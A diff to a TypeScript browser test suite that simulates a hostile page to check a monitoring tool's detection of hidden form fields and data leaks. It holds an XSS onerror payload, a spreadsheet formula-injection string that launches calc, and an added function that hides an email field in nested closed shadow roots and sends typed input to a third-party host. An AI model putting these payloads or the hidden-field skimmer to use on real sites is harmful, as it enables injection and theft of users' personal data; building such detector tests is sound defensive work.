@@ -9,6 +9,29 @@ const GROWTH = 50_000_000;
 const TAG = '<img src=x onerror="globalThis.pwned=1">';
 const FORMULA = "=cmd|' /C calc'!A0";
 
+/** What is typed into a closed root. */
+const HIDDEN = 'ada.brandt@post.example';
+
+/** Runs in the page: a field in a closed shadow root within another, and a script that sends what is in it when it changes. */
+function hideField(third: string): void {
+  const host = document.body.appendChild(document.createElement('div'));
+  const outer = host.attachShadow({mode: 'closed'});
+  const within = outer.appendChild(document.createElement('hidden-field'));
+  const inner = within.attachShadow({mode: 'closed'});
+  const label = inner.appendChild(document.createElement('label'));
+  label.textContent = 'Your e-mail address';
+  const input = label.appendChild(document.createElement('input'));
+  input.addEventListener('change', () => {
+    void fetch(
+      `https://${third}/${encodeURIComponent(input.value)}?mail=${encodeURIComponent(input.value)}`,
+      {
+        mode: 'no-cors',
+      },
+    );
+  });
+  input.focus();
+}
+
 /** Runs in the page: overhears what scripts say to each other, provokes our own, and then speaks in their stead. */
 async function forge(): Promise<{overheard: string[]; said: number}> {
   const overheard: string[] = [];
@@ -232,6 +255,23 @@ describe.each<BrowserKind>(['chromium', 'firefox'])('a hostile page in %s', kind
       await devtools.detach();
     },
   );
+
+  it('hides no field in closed shadow roots, nor what is typed there', async () => {
+    await openProduct();
+    await world.settle();
+    await world.page.evaluate(hideField, THIRD);
+    await world.page.keyboard.type(HIDDEN);
+    await world.page.keyboard.press('Tab');
+    await world.settle();
+    const {observations} = await world.bundle();
+    const fields = observations.flatMap(one => (one.kind === 'field' && one.filled ? [one] : []));
+    expect(fields).toMatchObject([{type: 'email', shadow: true, label: 'Your e-mail address'}]);
+    const leaks = observations.flatMap(one =>
+      one.kind === 'request' && one.host === THIRD ? (one.leaks ?? []) : [],
+    );
+    expect([...new Set(leaks.map(({type}) => type))]).toEqual(['email']);
+    expect(JSON.stringify(observations)).not.toMatch(/ada\.brandt/);
+  });
 
   it('throws what it would throw, and goes on with frozen natives', async () => {
     await openProduct();
